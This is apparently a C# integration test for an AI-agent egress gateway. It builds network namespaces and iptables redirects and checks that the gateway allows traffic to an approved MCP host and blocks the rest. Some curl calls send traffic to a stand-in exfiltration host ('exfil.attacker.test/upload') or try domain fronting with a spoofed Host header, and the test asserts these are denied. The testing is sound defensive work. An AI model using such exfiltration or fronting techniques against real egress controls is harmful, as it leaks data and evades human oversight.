using System.Diagnostics;
using System.Security.Cryptography.X509Certificates;
using Corral.Gateway.Tests.Support;

namespace Corral.Gateway.Tests;

/// <summary>
/// The transparent listener for real: an agent network namespace whose TCP traffic iptables REDIRECTs to the gateway,
/// and a stand-in "internet" namespace at 198.18.x.2 serving HTTP and HTTPS. Needs root, ip, iptables and python3
/// (for the server inside the namespace); where any is missing the test says so and returns.
/// </summary>
public sealed class TransparentNamespaceTests(ITestOutputHelper output)
{
    [Fact]
    public async Task Redirected_agent_traffic_is_decided_by_sni_and_host_and_denied_flows_reach_nothing()
    {
        var missing = new[] { "ip", "iptables", "curl", "python3" }.Where(p => !CommandLine.Exists(p)).ToArray();
        if (missing.Length > 0 || Environment.UserName != "root")
        {
            Assert.Skip($"needs root and {string.Join(", ", missing.DefaultIfEmpty("nothing else"))}");
        }
        var k = Random.Shared.Next(1, 250);
        var id = $"{Environment.ProcessId % 10000}{k}";
        var agentNs = $"crl-agent-{id}";
        var netNs = $"crl-net-{id}";
        var (vethAgentRoot, vethAgent, vethNetRoot, vethNet) = ($"cra{id}", $"crb{id}", $"crc{id}", $"crd{id}");
        var agentIp = $"10.213.{k}.2";
        var internet = $"198.18.{k}.2";
        var cleanup = new List<string[]>();
        var folder = Directory.CreateTempSubdirectory("corral-netns-").FullName;
        Process? server = null;
        try
        {
            if (!await TryAsync("ip", "netns", "add", agentNs))
            {
                Assert.Skip("cannot create network namespaces here (no CAP_SYS_ADMIN?)");
            }
            cleanup.Add(["ip", "netns", "del", agentNs]);
            await RunAsync("ip", "netns", "add", netNs);
            cleanup.Add(["ip", "netns", "del", netNs]);
            // Agent side: 10.213.k.2 in its namespace, default route to the root side (where the gateway is).
            await RunAsync("ip", "link", "add", vethAgentRoot, "type", "veth", "peer", "name", vethAgent, "netns", agentNs);
            cleanup.Add(["ip", "link", "del", vethAgentRoot]);
            await RunAsync("ip", "addr", "add", $"10.213.{k}.1/30", "dev", vethAgentRoot);
            await RunAsync("ip", "link", "set", vethAgentRoot, "up");
            await RunAsync("ip", "netns", "exec", agentNs, "ip", "addr", "add", $"{agentIp}/30", "dev", vethAgent);
            await RunAsync("ip", "netns", "exec", agentNs, "ip", "link", "set", vethAgent, "up");
            await RunAsync("ip", "netns", "exec", agentNs, "ip", "link", "set", "lo", "up");
            await RunAsync("ip", "netns", "exec", agentNs, "ip", "route", "add", "default", "via", $"10.213.{k}.1");
            // Stand-in internet: 198.18.k.2 in its own namespace.
            await RunAsync("ip", "link", "add", vethNetRoot, "type", "veth", "peer", "name", vethNet, "netns", netNs);
            cleanup.Add(["ip", "link", "del", vethNetRoot]);
            await RunAsync("ip", "addr", "add", $"198.18.{k}.1/24", "dev", vethNetRoot);
            await RunAsync("ip", "link", "set", vethNetRoot, "up");
            await RunAsync("ip", "netns", "exec", netNs, "ip", "addr", "add", $"{internet}/24", "dev", vethNet);
            await RunAsync("ip", "netns", "exec", netNs, "ip", "link", "set", vethNet, "up");
            await RunAsync("ip", "netns", "exec", netNs, "ip", "link", "set", "lo", "up"); // the readiness probe connects from inside

            // The server in the internet namespace: HTTPS on 443 and HTTP on 80, logging each request line it gets.
            using var cert = TestUpstream.Mint(["mcp.contoso.com", "exfil.attacker.test"]);
            File.WriteAllText(Path.Combine(folder, "cert.pem"), cert.ExportCertificatePem());
            File.WriteAllText(Path.Combine(folder, "key.pem"), cert.GetECDsaPrivateKey()!.ExportPkcs8PrivateKeyPem());
            var requestLog = Path.Combine(folder, "requests.log");
            File.WriteAllText(Path.Combine(folder, "server.py"), ServerScript);
            server = Process.Start(new ProcessStartInfo("ip", ["netns", "exec", netNs, "python3", Path.Combine(folder, "server.py"), internet, folder, requestLog])
            { RedirectStandardOutput = true, RedirectStandardError = true })!;

            await using var gw = GatewayHarness.Foundry($"{internet} mcp.contoso.com exfil.attacker.test www.example.test\n", transparent: true, agentSubnet: $"10.213.{k}.0/30");
            var port = gw.Server.TransparentEndPoint!.Port.ToString();
            await RunAsync("iptables", "-t", "nat", "-A", "PREROUTING", "-i", vethAgentRoot, "-p", "tcp", "-j", "REDIRECT", "--to-ports", port);
            cleanup.Insert(0, ["iptables", "-t", "nat", "-D", "PREROUTING", "-i", vethAgentRoot, "-p", "tcp", "-j", "REDIRECT", "--to-ports", port]);
            await WaitForServerAsync(netNs, internet);

            string[] Curl(params string[] args) => ["netns", "exec", agentNs, "curl", "-sk", "--connect-timeout", "20", "-m", "40", .. args];
            var permitted = await CommandLine.RunAsync("ip", Curl("--resolve", $"mcp.contoso.com:443:{internet}", "https://mcp.contoso.com/tools/list"));
            var deniedTls = await CommandLine.RunAsync("ip", Curl("--resolve", $"exfil.attacker.test:443:{internet}", "https://exfil.attacker.test/upload"));
            var deniedHttp = await CommandLine.RunAsync("ip", Curl("-i", "--resolve", $"www.example.test:80:{internet}", "http://www.example.test/"));
            var fronted = await CommandLine.RunAsync("ip", Curl("--resolve", $"exfil.attacker.test:443:{internet}", "-H", "Host: mcp.contoso.com", "https://exfil.attacker.test/"));
            output.WriteLine($"permitted: {permitted}\ndeniedTls: {deniedTls}\ndeniedHttp: {deniedHttp}");

            Assert.Equal(0, permitted.ExitCode);
            Assert.Contains("GET /tools/list", permitted.Stdout);
            Assert.NotEqual(0, deniedTls.ExitCode);
            Assert.Contains("403", deniedHttp.Stdout.Split('\n')[0]);
            Assert.Contains("X-Corral-Rule: default-deny-internet", deniedHttp.Stdout);
            Assert.NotEqual(0, fronted.ExitCode);
            var seen = File.Exists(requestLog) ? File.ReadAllText(requestLog) : "";
            Assert.Contains("/tools/list", seen);
            Assert.DoesNotContain("/upload", seen);
            Assert.DoesNotContain("www.example.test", seen);

            var (decision, close) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "mcp.contoso.com" && r.GetProperty("listener").GetString() == "transparent");
            Assert.Equal("allow-tool-calls", decision.GetProperty("rule").GetString());
            Assert.StartsWith($"{agentIp}:", decision.GetProperty("src").GetString());
            Assert.Equal($"{internet}:443", decision.GetProperty("dst").GetString());
            Assert.True(close.GetProperty("bytes_down").GetInt64() > 0);
            var (denied, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "exfil.attacker.test");
            Assert.Equal("default-deny-internet", denied.GetProperty("rule").GetString());
        }
        finally
        {
            if (server is not null && !server.HasExited) { server.Kill(entireProcessTree: true); await server.WaitForExitAsync(); }
            foreach (var command in cleanup) await TryAsync(command[0], command[1..]);
            Directory.Delete(folder, recursive: true);
        }
    }


    private static async Task RunAsync(string program, params string[] args)
    {
        var (code, stdout, stderr) = await CommandLine.RunAsync(program, args);
        if (code != 0) throw new InvalidOperationException($"{program} {string.Join(' ', args)} failed ({code}): {stderr}{stdout}");
    }

    private static async Task<bool> TryAsync(string program, params string[] args) => (await CommandLine.RunAsync(program, args)).ExitCode == 0;

    private static async Task WaitForServerAsync(string netNs, string address)
    {
        for (var i = 0; i < 100; i++)
        {
            if (await TryAsync("ip", "netns", "exec", netNs, "python3", "-c",
                    $"import socket; s=socket.create_connection(('{address}', 80), 1); s.close()")) return;
            await Task.Delay(200);
        }
        throw new TimeoutException("the stand-in server in the namespace did not start");
    }

    private const string ServerScript = """
        import http.server, ssl, sys, threading
        address, folder, log = sys.argv[1], sys.argv[2], sys.argv[3]
        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            def do_GET(self):
                with open(log, "a") as f:
                    f.write(self.headers.get("Host", "") + " " + self.path + "\n")
                body = ("hello from the stand-in: GET " + self.path + "\n").encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            def log_message(self, *args):
                pass
        plain = http.server.ThreadingHTTPServer((address, 80), Handler)
        tls = http.server.ThreadingHTTPServer((address, 443), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder + "/cert.pem", folder + "/key.pem")
        tls.socket = context.wrap_socket(tls.socket, server_side=True)
        threading.Thread(target=plain.serve_forever, daemon=True).start()
        tls.serve_forever()
        """;
}
